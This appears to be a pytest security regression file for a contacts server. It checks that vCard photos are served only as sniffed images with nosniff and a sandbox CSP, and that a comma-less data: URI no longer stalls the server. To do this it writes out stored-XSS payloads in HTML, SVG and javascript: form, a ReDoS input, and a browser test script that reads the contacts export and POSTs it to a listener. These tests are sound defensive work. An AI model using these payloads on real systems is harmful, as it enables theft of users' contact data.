"""Attack: a card's PHOTO as a page on Cardfile's origin (stored script).

A PHOTO of ``data:text/html;base64,...`` or ``data:image/svg+xml`` used to be
served with the media type the card claimed, so opening a contact's photo
address ran the card writer's script on Cardfile's origin, with the
browser's credentials for it (it could read ``/api/.../export``). And the
old parser's regular expression took 25 s, holding the GIL, on ``data:``
followed by 50,000 characters without a comma.

Now a photo is served only as JPEG, PNG, GIF or WebP, the type taken from
its bytes, with nosniff, a sandboxing CSP and an inline disposition; any
other photo is 404 (a problem document).
"""

from __future__ import annotations

import base64
import http.server
import os
import threading
import time
from collections.abc import Iterator

import pytest
from playwright.sync_api import sync_playwright

from tests.conftest import PASSWORD, USER, ServerProcess, loopback_site
from tests.davclient import DavClient, card
from tests.test_api import BOOK, PNG, Api, assert_problem
from tests.test_web import CHROMIUM, CHROMIUM_ARGS

GIF = base64.b64decode("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7")
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + b"\x00" * 32
WEBP = (b"RIFF\x1a\x00\x00\x00WEBPVP8L\r\x00\x00\x00/\x00\x00\x00"
        b"\x10\x07\x10\x11\x11\x88\x88\xfe\x07\x00")


def b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


@pytest.fixture
def api(server: ServerProcess, dav: DavClient) -> Api:
    return Api(server)


def photo_card(dav: DavClient, uid: str, photo_line: str) -> str:
    assert dav.put(f"{uid}.vcf", card(uid, f"Photo {uid}", photo_line))[0] == 201
    return f"{BOOK}/contacts/{uid}/photo"


def test_each_accepted_image_is_served_with_the_type_its_bytes_show(
        api: Api, dav: DavClient) -> None:
    # The card's claim is ignored either way: a PNG said to be a GIF is a PNG.
    cases = {"png": (f"PHOTO;ENCODING=b;TYPE=GIF:{b64(PNG)}", PNG, "image/png"),
             "gif": (f"PHOTO:data:image/png;base64,{b64(GIF)}", GIF, "image/gif"),
             "jpg": (f"PHOTO;ENCODING=b;TYPE=PNG:{b64(JPEG)}", JPEG, "image/jpeg"),
             "webp": (f"PHOTO;VALUE=URI:data:text/html;base64,{b64(WEBP)}", WEBP, "image/webp")}
    for extension, (line, data, media_type) in cases.items():
        url = photo_card(dav, f"ok-{extension}", line)
        status, headers, body = api.call("GET", url)
        assert status == 200 and body == data, (extension, status)
        assert headers["content-type"] == media_type
        assert headers["x-content-type-options"] == "nosniff"
        assert headers["content-security-policy"] == "sandbox; default-src 'none'"
        assert headers["content-disposition"] == f"inline; filename=photo.{extension}"


def test_html_svg_and_unknown_photos_are_refused(api: Api, dav: DavClient) -> None:
    html = b"<html><script>alert(document.domain)</script></html>"
    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    refused = {"html": f"PHOTO:data:text/html;base64,{b64(html)}",
               "svg64": f"PHOTO;VALUE=URI:data:image/svg+xml;base64,{b64(svg)}",
               "svgplain": "PHOTO;VALUE=URI:data:image/svg+xml,%3Csvg%20onload%3Dalert(1)%3E",
               "svgtyped": f"PHOTO;ENCODING=b;TYPE=SVG:{b64(svg)}",
               "jpegclaim": f"PHOTO;ENCODING=b;TYPE=JPEG:{b64(html)}",
               "bare": f"PHOTO:data:application/octet-stream;base64,{b64(b'MZ' + bytes(40))}",
               "script-link": "PHOTO;VALUE=URI:javascript:alert(1)"}
    for name, line in refused.items():
        body = assert_problem(api.call("GET", photo_card(dav, f"no-{name}", line)), 404)
        assert "script" not in body["detail"], name
    # A link to a photo elsewhere is not fetched: the client is sent there.
    status, headers, _ = api.call("GET", photo_card(
        dav, "linked", "PHOTO;VALUE=URI:https://photos.example/ada.jpg"))
    assert status == 302 and headers["location"] == "https://photos.example/ada.jpg"


def test_a_data_uri_without_a_comma_does_not_hold_up_the_server(
        api: Api, dav: DavClient) -> None:
    url = photo_card(dav, "slow", "PHOTO:data:" + "a" * 50_000)
    took: dict[str, float] = {}

    def attack() -> None:
        started = time.monotonic()
        took["status"] = api.call("GET", url)[0]
        took["attack"] = time.monotonic() - started

    thread = threading.Thread(target=attack)
    thread.start()
    time.sleep(0.05)
    started = time.monotonic()
    assert api.call("GET", "/api/")[0] == 200
    other = time.monotonic() - started
    thread.join(timeout=60)
    assert not thread.is_alive()
    assert took["status"] == 404
    assert took["attack"] < 3 and other < 3, (took, other)


class _Listener(http.server.BaseHTTPRequestHandler):
    """Records every request a script in the browser sends to it."""

    seen: list[str] = []

    def do_GET(self) -> None:  # noqa: N802 (http.server's name)
        self.seen.append(self.path)
        self.send_response(204)
        self.end_headers()

    do_POST = do_GET  # noqa: N815

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def listener() -> Iterator[tuple[str, list[str]]]:
    seen: list[str] = []
    handler = type("Handler", (_Listener,), {"seen": seen})
    with loopback_site(handler) as url:
        yield url, seen


@pytest.mark.skipif(not os.path.exists(CHROMIUM) and not os.environ.get("CI"),
                    reason="Debian's chromium is not installed")
def test_opening_a_photo_in_a_signed_in_browser_runs_no_script(
        server: ServerProcess, dav: DavClient, listener: tuple[str, list[str]]) -> None:
    listen_url, seen = listener
    script = (f"document.title = 'script ran';"
              f"fetch('/api/books/contacts/export').then((r) => r.text()).then((t) => {{"
              f"  document.title = 'stolen ' + t.length;"
              f"  fetch('{listen_url}/stolen', {{method: 'POST', mode: 'no-cors', body: t}});"
              f"}});"
              f"fetch('{listen_url}/ran', {{mode: 'no-cors'}});")
    html = f"<html><body><script>{script}</script></body></html>".encode()
    svg = (f'<svg xmlns="http://www.w3.org/2000/svg"><script>{script}</script></svg>').encode()
    dav.put("secret.vcf", card("secret", "Secret Person", "EMAIL:secret@example.org"))
    urls = [photo_card(dav, "evil-html", f"PHOTO:data:text/html;base64,{b64(html)}"),
            photo_card(dav, "evil-svg", f"PHOTO;VALUE=URI:data:image/svg+xml;base64,{b64(svg)}")]
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        try:
            context = browser.new_context(
                http_credentials={"username": USER, "password": PASSWORD})
            page = context.new_page()
            assert page.goto(server.url + "/api/").status == 200  # credentials cached
            for url in urls:
                page.goto(server.url + url)
                page.wait_for_timeout(1000)  # time for a script's fetches to land
                assert "ran" not in page.title() and "stolen" not in page.title(), url
            context.close()
        finally:
            browser.close()
    assert seen == []
